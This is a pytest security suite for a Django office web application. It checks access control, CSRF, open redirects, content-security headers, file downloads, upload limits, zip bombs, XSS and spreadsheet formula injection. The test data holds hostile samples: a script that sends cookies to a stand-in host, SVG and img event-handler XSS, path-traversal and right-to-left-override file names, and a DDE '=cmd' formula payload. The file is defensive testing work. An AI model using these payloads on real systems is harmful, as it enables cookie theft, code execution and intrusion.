"""Every address of the site, signed out and as everybody: nothing is told that must not be, nothing active is served.

The addresses are walked, not listed: a page added tomorrow is tried tomorrow. What is open to those who are not signed
in stands in one table here, `PUBLIC`; an address that is missing from `ARGUMENTS` fails until it has a case.
"""

from __future__ import annotations

import csv
import html.parser
import io
import re
import zipfile
from types import SimpleNamespace

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from namro.office.accounts.models import Agency, User
from namro.office.accounts.roles import Role
from namro.office.common import clock, files
from namro.office.directives import actions
from namro.office.directives.models import Directive
from namro.office.ledger.models import Entry
from namro.office.notices.models import Finding, Version
from tests.office.conftest import person
from tests.office.doing import finding, intake, ready

pytestmark = pytest.mark.django_db

PUBLIC = {
    "health": "told to machines that watch the site",
    "common:theme": "how pages look",
    "common:language": "which language pages speak",
    "common:gallery": "only where errors are shown with their code",
    "ledger:head": "the head of the chain, for anyone to keep",
    "ledger:head-json": "the same for machines",
    "account_login": "to sign in",
    "account_logout": "sends whoever is signed out to the sign-in page",
    "account_inactive": "says that an account is no longer used",
    "account_signup": "closed",
    "account_confirm_email": "closed",
    "account_email_verification_sent": "closed",
    "account_confirm_login_code": "closed",
    "account_reset_password": "closed",
    "account_reset_password_done": "closed",
    "account_reset_password_from_key": "closed",
    "account_reset_password_from_key_done": "closed",
    "account_reauthenticate": "asks whoever is signed in once more",
    "mfa_authenticate": "the second step of signing in",
    "mfa_login_webauthn": "to sign in with a passkey",
    "mfa_reauthenticate": "asks whoever is signed in once more",
    "mfa_reauthenticate_webauthn": "asks whoever is signed in once more",
    "openid_connect_login": "to sign in through the office's provider",
    "openid_connect_callback": "the way back from it",
    "socialaccount_login_cancelled": "says so",
    "socialaccount_signup": "closed",
}
SAYS_WORDS = {
    "account_login", "account_inactive", "socialaccount_login_cancelled", "ledger:head",
    "ledger:head-json", "health",
}  # fmt: skip
"""Those of them that answer with a page or a value; the others redirect, or are not there."""
PEOPLE = ("clerk", "assigner", "inspector", "leader", "administrator", "officer", "head", "other", "stranger")


def addresses(patterns=None, prefix="", namespace=""):
    """Every named address: its full name and the names of what it takes."""
    for one in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(one, URLResolver):
            inner = f"{namespace}{one.namespace}:" if one.namespace else namespace
            yield from addresses(one.url_patterns, prefix + str(one.pattern), inner)
        elif isinstance(one, URLPattern):
            yield f"{namespace}{one.name}", prefix + str(one.pattern)


UNNAMED = "tai-khoan/social/"  # allauth's own old addresses: they lead to those that have names
ADDRESSES = sorted({(name, pattern) for name, pattern in addresses() if not pattern.startswith(UNNAMED)})


@pytest.fixture
def site(office):
    """An office with one of everything, none of it the stranger's."""
    office.far = Agency.objects.create(name="Sở Y tế", short="SYT")
    office.stranger = person("nguoila", "Lý Văn Lạ", office.far, Role.HEAD)
    one = finding(office)
    directive = ready(office, "reported")
    Directive.objects.filter(pk=directive.pk).update(notice=one.of.notice, source=one.of)
    sent = intake(office, "failed")
    stored = files.store([b"<html><script>alert(1)</script></html>"])
    Version.objects.filter(pk=one.of_id).update(file=stored, name="tb.html")
    view = actions.save_view(office.leader, None, name="Trễ hạn", query="tinh-hinh=overdue")
    from namro.office.exchange.models import AnnexUpload

    upload = AnnexUpload.objects.create(
        notice=one.of.notice, name="pl.docx", file=stored, rows=[], sent_by=office.clerk, sent_at=clock.now()
    )
    return SimpleNamespace(
        office=office,
        notice=one.of.notice,
        version=one.of,
        finding=one,
        directive=Directive.objects.get(pk=directive.pk),
        evidence=directive.evidence.exclude(file=None).first(),
        intake=sent,
        view=view,
        upload=upload,
    )


def arguments(site, name, missing=False):
    """What an address takes, of the site's own records; with `missing`, numbers that are nobody's."""
    none = 987_654
    number = {
        "directives:page": ("number", site.directive.number),
        "directives:act": ("number", site.directive.number),
        "directives:evidence": ("number", site.directive.number),
        "directives:drop-view": ("pk", site.view.pk),
        "notices:decide": ("pk", site.intake.pk),
        "notices:retry": ("pk", site.intake.pk),
        "review:desk": ("pk", site.version.pk),
        "review:act": ("pk", site.version.pk),
        "ledger:item": ("number", 1),
        "mfa_remove_webauthn": ("pk", 1),
        "mfa_edit_webauthn": ("pk", 1),
    }
    kinds = {"accounts": site.office.head.pk, "notices": site.notice.pk, "exchange": site.notice.pk}
    agency = {"accounts:agency", "accounts:edit_agency", "accounts:end_agency"}
    given = {}
    pattern = dict(ADDRESSES)[name]
    for wanted in re.findall(r"<(?:\w+:)?(\w+)>|\(\?P<(\w+)>", pattern):
        wanted = wanted[0] or wanted[1]
        if name in number and number[name][0] == wanted:
            given[wanted] = none if missing else number[name][1]
        elif wanted == "pk" and name == "directives:evidence":
            given[wanted] = site.evidence.pk
        elif wanted == "pk" and name in agency:
            given[wanted] = none if missing else site.office.works.pk
        elif wanted == "pk":
            given[wanted] = none if missing else kinds[name.partition(":")[0]]
        else:
            given[wanted] = {
                "slug": "chap-nhan", "act": "xac-nhan", "ordinal": 1, "upload_pk": site.upload.pk, "batch": "b",
                "post": 1, "key": "abc", "uidb36": "1", "provider_id": "co-quan",
                "name": "ngung" if name.startswith("accounts") else "mau",
            }[wanted]  # fmt: skip
    return given


def address_of(site, name, missing=False):
    """The address with everything it takes."""
    given = arguments(site, name, missing)
    pattern = dict(ADDRESSES)[name].replace("^", "").replace("$", "")
    for wanted, value in given.items():
        pattern = re.sub(rf"<(?:\w+:)?{wanted}>|\(\?P<{wanted}>[^()]*\)", str(value), pattern)
    return "/" + pattern.replace("\\", "")


class Browser(Client):
    """A client that reads every answer to its end and closes it; `body` is what came."""

    def request(self, **request):
        answer = super().request(**request)
        answer.body = b"".join(answer.streaming_content) if answer.streaming else answer.content
        request_finished.disconnect(close_old_connections)  # a test is one transaction, on one connection
        answer.close()
        request_finished.connect(close_old_connections)
        return answer


@pytest.fixture
def client():
    return Browser()


def told(answer, *hidden):
    """What a page says, without what differs from request to request and the address that was asked for."""
    words = re.sub(r"[A-Za-z0-9]{64}", "…", answer.body.decode())
    for one in hidden:
        words = words.replace(one, "…")
    return words


def test_every_address_is_walked():
    names = [name for name, _pattern in ADDRESSES]
    assert len(names) > 60
    assert not [name for name in names if name.endswith("None")], "every address has a name"
    assert set(PUBLIC) <= set(names), "the table of what is public names only what is there"


@pytest.mark.parametrize("name", [name for name, _pattern in ADDRESSES])
def test_signed_out_one_is_sent_to_sign_in(site, client, name):
    for method in ("get", "post"):
        before = Entry.objects.count()
        answer = getattr(client, method)(address_of(site, name))
        assert Entry.objects.count() == before, "nobody acts unknown"
        if name in SAYS_WORDS and method == "get":
            assert answer.status_code == 200
        elif name in PUBLIC:
            assert answer.status_code in (200, 302, 403, 404, 405), answer.status_code
            if answer.status_code == 302:
                assert answer["Location"].startswith("/"), answer["Location"]
        else:
            assert answer.status_code == 302, answer.status_code
            assert answer["Location"].startswith("/tai-khoan/login/"), answer["Location"]


@pytest.mark.parametrize("name", [name for name, _pattern in ADDRESSES])
def test_as_everybody_nothing_breaks_and_what_is_hidden_is_not_there(site, name):
    address, nowhere = address_of(site, name), address_of(site, name, missing=True)
    for who in PEOPLE:
        client = Browser()
        client.force_login(User.objects.get(pk=getattr(site.office, who).pk))
        answer = client.get(address)
        assert answer.status_code < 500, f"{who} {address}: {answer.status_code}"
        if answer.status_code == 404 and address != nowhere:
            assert told(answer, address) == told(client.get(nowhere), nowhere), f"{who} {address}"
        if name == "account_logout":
            continue
        before = Entry.objects.count()
        answer = client.post(address, {})
        assert answer.status_code < 500, f"{who} POST {address}: {answer.status_code}"
        assert who in ("clerk", "assigner", "leader", "inspector", "administrator") or Entry.objects.count() == before


HIDDEN = (
    "directives:page", "directives:act", "directives:evidence", "notices:item", "notices:text", "notices:original",
    "notices:gold", "notices:changes", "review:desk", "exchange:annex", "exchange:annex-file", "accounts:person",
)  # fmt: skip


@pytest.mark.parametrize("name", HIDDEN)
def test_the_work_of_others_does_not_exist(site, client, name):
    client.force_login(site.office.stranger)
    address, nowhere = address_of(site, name), address_of(site, name, missing=True)
    hidden, none = client.get(address), client.get(nowhere)
    assert (hidden.status_code, none.status_code) == (404, 404)
    assert told(hidden, address) == told(none, nowhere)
    assert set(hidden.headers) == set(none.headers)


LISTS = (
    "/", "/nhiem-vu/", "/nhiem-vu/cua-toi/", "/nhiem-vu/lich.ics", "/van-ban/", "/trao-doi/",
    "/trao-doi/so-theo-doi?dang=csv", "/so-lieu/", "/so-cai/muc/",
)  # fmt: skip


def test_lists_and_counts_do_not_tell_of_it(site, client):
    client.force_login(site.office.stranger)
    secret = site.directive.task[:30]
    for address in (*LISTS, f"/tim/?q={secret[:12]}"):
        answer = client.get(address)
        assert secret.encode() not in answer.body, address
        assert site.notice.title.encode() not in answer.body, address


def test_what_is_posted_needs_the_page_it_came_from(site):
    client = Browser(enforce_csrf_checks=True)
    client.force_login(site.office.inspector)
    for name, _pattern in ADDRESSES:
        if name.startswith(("common:", "health")):
            continue
        answer = client.post(address_of(site, name), {"next": "/"})
        assert answer.status_code in (403, 404, 405), f"{name}: {answer.status_code}"
    assert Directive.objects.get(pk=site.directive.pk).state == "reported"
    assert client.get("/nguoi-dung/toi").status_code == 200, "nor is anybody signed out"


@pytest.mark.parametrize("elsewhere", ["https://ke-gian.vn/", "//ke-gian.vn/", "/\\ke-gian.vn", "http:ke-gian.vn"])
def test_nobody_is_led_elsewhere(site, elsewhere):
    client = Browser()
    client.force_login(site.office.leader)
    for name, _pattern in ADDRESSES:
        if name in ("account_logout", "openid_connect_login", "openid_connect_callback"):
            continue
        for answer in (
            client.post(address_of(site, name), {"next": elsewhere}),
            client.get(address_of(site, name), {"next": elsewhere}),
        ):
            assert "ke-gian.vn" not in answer.headers.get("Location", "").partition("?")[0], name
    assert "ke-gian" not in client.post("/tai-khoan/logout/", {"next": elsewhere})["Location"]


class Inline(html.parser.HTMLParser):
    """Collects what a strict policy would refuse: scripts without a source, styles and handlers in the page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attributes):
        told = dict(attributes)
        data = told.get("type") == "application/json"
        if tag == "style" or (tag == "script" and "src" not in told and not data):
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            if name == "style" or name.startswith("on") or str(value).strip().lower().startswith("javascript:"):
                self.found.append(f"{tag} {name}")
            remote = name in ("src", "href", "action") and re.match(r"(https?:)?//", str(value or ""))
            if remote and tag in ("script", "link", "img", "form", "iframe", "source"):
                self.found.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("name", [name for name, _pattern in ADDRESSES])
def test_pages_hold_nothing_inline_and_say_so_to_browsers(site, name):
    for who in ("leader", "administrator", None):
        client = Browser()
        if who:
            client.force_login(User.objects.get(pk=getattr(site.office, who).pk))
        answer = client.get(address_of(site, name))
        policy = answer.headers["Content-Security-Policy"]
        assert "unsafe" not in policy
        assert "default-src" in policy
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["X-Frame-Options"] == "DENY"
        assert answer.headers["Referrer-Policy"] == "same-origin"
        if answer.headers["Content-Type"].startswith("text/html") and not answer.streaming:
            page = Inline()
            page.feed(answer.body.decode())
            assert not page.found, f"{who} {name}: {page.found}"


EVIL = {
    "bao-cao.html": b"<!doctype html><script>fetch('//ke-gian.vn?'+document.cookie)</script>",
    "hinh.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "../../x": b"out of the folder",
    "..\\..\\boot.ini": b"out of the folder too",
    "\u202egpj.exe": b"MZ",
}


@pytest.mark.parametrize("name", EVIL)
def test_what_was_sent_comes_back_to_be_saved_and_never_runs(site, client, name, settings):
    stored = files.store([EVIL[name]])
    one = ready(site.office, "in_progress")
    actions.add_evidence(site.office.officer, one, evidence=[{"title": name, "file": stored}])
    shown = one.evidence.get(file=stored)
    client.force_login(site.office.leader)
    answer = client.get(f"/nhiem-vu/{one.number}/minh-chung/{shown.pk}/")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "application/octet-stream"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    for part in ("..", "/", "\\", "\u202e", "%E2%80%AE"):
        assert part not in answer.headers["Content-Disposition"].removeprefix("attachment").replace("utf-8''", "")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer.body == EVIL[name]
    kept = {path.relative_to(settings.ENVIRONMENT.data).parts[0] for path in settings.ENVIRONMENT.data.rglob("*")}
    assert kept <= {"files"}, "the name never says where a file is kept"


def test_a_file_sent_through_the_form_keeps_its_place(site, client, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(site.office.clerk)
    sent = SimpleUploadedFile("../../x.txt", "THÔNG BÁO".encode(), content_type="text/html")
    sent.name = "../../x.txt"
    client.post("/van-ban/nhan/", {"files": [sent]})
    from namro.office.notices.models import Intake

    assert Intake.objects.order_by("-pk").first().name == "x.txt"
    assert not list(settings.ENVIRONMENT.data.parent.glob("x*"))


def test_a_request_of_a_gigabyte_is_refused_before_it_is_read(site, client, settings):
    client.force_login(site.office.clerk)

    class Unread(io.RawIOBase):
        def read(self, size=-1):
            raise AssertionError("somebody read the body")

    kind = "multipart/form-data; boundary=x"
    length = {"CONTENT_LENGTH": str(1_000_000_000), "wsgi.input": Unread()}
    answer = client.generic("POST", "/van-ban/nhan/", b"", content_type=kind, **length)
    assert answer.status_code == 413


def test_a_file_longer_than_allowed_is_refused_and_not_kept(site, client, settings, tmp_path):
    from dataclasses import replace

    settings.ENVIRONMENT = replace(settings.ENVIRONMENT, upload_megabytes=1)
    client.force_login(site.office.clerk)
    long = io.BytesIO(b"a" * 1_000_001)
    long.name = "dai.txt"
    before = {path for path in settings.ENVIRONMENT.data.rglob("*") if path.is_file()}
    page = client.post("/van-ban/nhan/", {"files": [long]}, follow=True).body.decode()
    assert "dai.txt" in page
    assert {path for path in settings.ENVIRONMENT.data.rglob("*") if path.is_file()} == before


def test_a_zip_bomb_is_read_as_a_refusal(tmp_path):
    """A document of a few kilobytes that unfolds to gigabytes is told as such, in little memory and time."""
    from namro.documents import read_document
    from namro.errors import DocumentError

    bomb = tmp_path / "bom.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        with packed.open("word/document.xml", "w", force_zip64=True) as inner:
            for _ in range(2_000):
                inner.write(b"a" * 1_000_000)
    assert bomb.stat().st_size < 4_000_000
    with pytest.raises(DocumentError):
        read_document(bomb)


FORMULAS = ('=HYPERLINK("http://ke-gian.vn","xem")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_task_comes_out_as_words(site, client, formula):
    import openpyxl

    one = actions.enter_directive(site.office.clerk, None, task=formula, lead=site.office.finance)
    actions.confirm_directive(site.office.clerk, one)
    client.force_login(site.office.leader)
    answer = client.get("/trao-doi/so-theo-doi?dang=csv")
    body = answer.body.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any(formula.strip() in cell for cell in cells)
    assert not [cell for cell in cells if re.match(r"[=+@\t\r-]", cell) and not re.fullmatch(r"-?[\d.,]+", cell)]
    answer = client.get("/trao-doi/so-theo-doi?dang=xlsx")
    book = openpyxl.load_workbook(io.BytesIO(answer.body))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any(formula.strip() in str(cell.value) for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_words_of_people_are_never_markup(site, client):
    evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    one = actions.enter_directive(site.office.clerk, None, task=evil, lead=site.office.finance, basis=evil)
    actions.confirm_directive(site.office.clerk, one, note=evil)
    User.objects.filter(pk=site.office.leader.pk).update(name=evil)
    client.force_login(User.objects.get(pk=site.office.leader.pk))
    for address in (*LISTS, f"/nhiem-vu/{one.number}/", "/tim/?q=script", "/nguoi-dung/toi"):
        if address.endswith("csv"):
            continue
        body = client.get(address).body.decode()
        assert "<script>alert" not in body, address
        assert "<img src=x" not in body, address


def test_errors_tell_nothing_of_the_inside(site, client, monkeypatch):
    from namro.office.accounts import own_views

    def broken(*_args, **_kwargs):
        raise RuntimeError("postgresql://namro:s3cret@db/namro")

    monkeypatch.setattr(own_views, "render", broken)
    client.force_login(site.office.leader)
    client.raise_request_exception = False
    answer = client.get("/nguoi-dung/toi")
    assert answer.status_code == 500
    for word in ("s3cret", "Traceback", "RuntimeError", "own_views"):
        assert word not in answer.body.decode()


def test_cookies_are_for_the_site_alone(site, client, settings):
    answer = client.post("/tai-khoan/login/", {"login": "taichinh", "password": "taichinh" * 2})
    cookie = answer.cookies[settings.SESSION_COOKIE_NAME]
    assert (cookie["httponly"], cookie["samesite"], cookie["domain"]) == (True, "Lax", "")
    assert Finding.objects.exists()
